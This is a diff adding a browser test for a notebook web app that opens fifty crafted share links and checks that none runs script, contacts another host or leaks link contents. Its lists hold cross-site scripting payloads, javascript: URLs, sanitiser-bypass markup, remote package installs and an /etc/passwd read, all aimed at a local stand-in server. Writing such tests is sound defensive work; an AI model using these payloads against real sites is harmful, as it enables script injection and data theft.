@@ -1,0 +1,138 @@
+// Fifty links that mean harm: opening one runs nothing, asks nobody but the site, and starts no worker;
+// and what a link holds is nowhere in the address afterwards.
+
+import assert from "node:assert/strict";
+import { after, before, test } from "node:test";
+import { deflateRawSync } from "node:zlib";
+import { launch, newPage, percent, runCell, site, waitFor } from "./harness.mjs";
+
+let browser, served;
+before(async () => ((browser = await launch()), (served = await site())));
+after(async () => (await browser?.close(), await served?.close(), await elsewhere.close()));
+
+// Somebody who would like to be asked.
+const elsewhere = await site();
+
+/** A link with a notebook in it, after `app/engine/src/link/mod.rs`; made here, as somebody else would. */
+function linkOf(text) {
+  const bytes = Buffer.from(text);
+  const compressed = deflateRawSync(bytes);
+  let hash = 0xcbf29ce484222325n;
+  for (const byte of Buffer.concat([bytes, compressed])) hash = BigInt.asUintN(64, (hash ^ BigInt(byte)) * 0x100000001b3n);
+  const fingerprint = Buffer.alloc(8);
+  fingerprint.writeBigUInt64LE(hash);
+  const payload = Buffer.concat([varint(compressed.length), varint(bytes.length), fingerprint, compressed]);
+  return `${served.url}#v1.${payload.toString("base64url")}`;
+}
+
+function varint(number) {
+  const bytes = [];
+  for (; number > 0x7f; number >>= 7) bytes.push((number & 0x7f) | 0x80);
+  return Buffer.from([...bytes, number]);
+}
+
+const AWAY = elsewhere.url.slice(0, -1);
+const HARM = `globalThis.harmed=1;fetch('${AWAY}/js')`;
+
+/** Texts that would run or ask for something if they were taken for more than text. */
+const TEXTS = [
+  `<script>${HARM}</script>`,
+  `<img src=x onerror="${HARM}">`,
+  `<img src="${AWAY}/pixel.png">`,
+  `![picture](${AWAY}/pixel.png)`,
+  `![x](x"onerror="${HARM})`,
+  `[link](javascript:${HARM})`,
+  `<a href="javascript:${HARM}">link</a>`,
+  `<svg onload="${HARM}"><use href="${AWAY}/a.svg#a"></use></svg>`,
+  `<svg><script>${HARM}</script></svg>`,
+  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HARM}&gt;">`,
+  `<iframe src="${AWAY}"></iframe>`,
+  `<iframe srcdoc="<script>parent.harmed=1</script>"></iframe>`,
+  `<object data="${AWAY}/a.swf"></object><embed src="${AWAY}/a.swf">`,
+  `<link rel="stylesheet" href="${AWAY}/a.css"><style>@import "${AWAY}/b.css";</style>`,
+  `<meta http-equiv="refresh" content="0; url=${AWAY}">`,
+  `<base href="${AWAY}/">`,
+  `<form action="${AWAY}"><button autofocus>Run all</button></form>`,
+  `<video src="${AWAY}/a.mp4" autoplay></video><audio src="${AWAY}/a.mp3" autoplay></audio>`,
+  `<p style="background: url(${AWAY}/a.png)">styled</p>`,
+  `<details open ontoggle="${HARM}">open</details>`,
+  `<div data-action="run" class="button primary" onclick="${HARM}">Run</div>`,
+  `$\\href{javascript:${HARM}}{a}$ and $\\includegraphics{${AWAY}/a.png}$`,
+  `{__import__("js").eval("${HARM}")} {open("/etc/passwd").read()}`,
+  `<noscript><p title="</noscript><img src=x onerror=${HARM}>">`,
+  `<template><script>${HARM}</script></template><x-y is="a-b" onclick="${HARM}"></x-y>`,
+];
+
+/** Code that would do something if anybody ran it, or fetched what it names. */
+const CODES = [
+  `import js\njs.eval("${HARM}")`,
+  `import urllib.request\nurllib.request.urlopen("${AWAY}/python")`,
+  `import pandas\npandas.read_csv("${AWAY}/data.csv")`,
+  `open("${AWAY}/data.csv")`,
+  `# /// script\n# dependencies = ["harm @ ${AWAY}/harm.whl"]\n# ///\nimport harm`,
+  `%pip install ${AWAY}/harm.whl`,
+  `%%javascript\n${HARM}`,
+  `%%html\n<script>${HARM}</script>`,
+  `import numpy, pandas, matplotlib, scipy, sklearn`,
+  `f"""<script>${HARM}</script>"""`,
+  `class A:\n    def __repr__(self): raise SystemExit\nA()`,
+  `while True: pass`,
+  `__builtins__ = None`,
+  `import micropip\nawait micropip.install("${AWAY}/harm.whl")`,
+  `"notebooks/../../secret.csv"; open("${AWAY.slice(5)}/x.csv")`,
+];
+/** Names that a file or a page might take for its own. */
+const TITLES = [
+  `<script>${HARM}</script>`, `"><img src=x onerror=${HARM}>`, "__proto__", "constructor", "../../index.html", "javascript:alert(1)",
+  "\u202eevil", "a".repeat(5_000), "\u0000\u0008", "${7*7}{{7*7}}",
+];
+
+const NOTEBOOKS = [
+  ...TEXTS.map((text) => `# %% [markdown]\n# ${text.replaceAll("\n", "\n# ")}\n`),
+  ...CODES.map((code) => percent(code)),
+  ...TITLES.map((title) => `# rivulet: title=${JSON.stringify(title)}\n${percent("a = 1")}`),
+];
+
+test("fifty links that mean harm run nothing, ask nobody else and start no worker", async () => {
+  assert.equal(NOTEBOOKS.length, 50);
+  const page = await newPage(browser, { serviceWorkers: "block" });
+  const started = [];
+  page.on("worker", (worker) => started.push(worker.url()));
+  page.on("dialog", (dialog) => (started.push(dialog.message()), dialog.dismiss()));
+  for (const notebook of NOTEBOOKS) {
+    await page.goto("about:blank");
+    await page.goto(linkOf(notebook));
+    await page.waitForSelector("article[data-cell]");
+    // What is built in slices is there.
+    await page.waitForFunction(() => !document.querySelector('[aria-busy="true"]'));
+    const found = await page.evaluate(() => ({
+      harmed: globalThis.harmed,
+      frames: frames.length,
+      statuses: [...new Set([...document.querySelectorAll("article[data-cell]")].map((cell) => cell.dataset.status))],
+      kernel: document.querySelector("main").dataset.kernel,
+      hash: location.hash,
+      referrer: document.referrer,
+    }));
+    assert.deepEqual(found, { harmed: undefined, frames: 0, statuses: found.statuses, kernel: "off", hash: "", referrer: "" }, notebook);
+    assert.ok(found.statuses.every((status) => /^(idle|text)$/.test(status)), `${found.statuses}`);
+  }
+  assert.deepEqual([elsewhere.requests, started, page.troubles], [[], [], []]);
+  await page.context().close();
+});
+
+test("what a link held is in no address, also not of Python's frame", async () => {
+  const page = await newPage(browser);
+  const link = linkOf(percent('import js\nstr(js.location.href) + " " + str(js.self.location.hash)'));
+  const secret = link.split("#")[1].slice(0, 40);
+  await page.goto(link);
+  await page.waitForSelector("article[data-cell]");
+  await runCell(page, 1);
+  await waitFor(page, 1, "success");
+  const seen = [page.url(), await page.locator('[data-part="output"]').innerText()];
+  for (const frame of page.frames()) seen.push(frame.url(), await frame.evaluate(() => document.baseURI), await frame.evaluate(() => document.referrer));
+  assert.ok(page.frames().length > 1, "Python has a frame");
+  assert.deepEqual(seen.filter((address) => address.includes(secret)), []);
+  for (const { path } of served.requests) assert.ok(!path.includes(secret));
+  assert.deepEqual(page.troubles, []);
+  await page.context().close();
+});
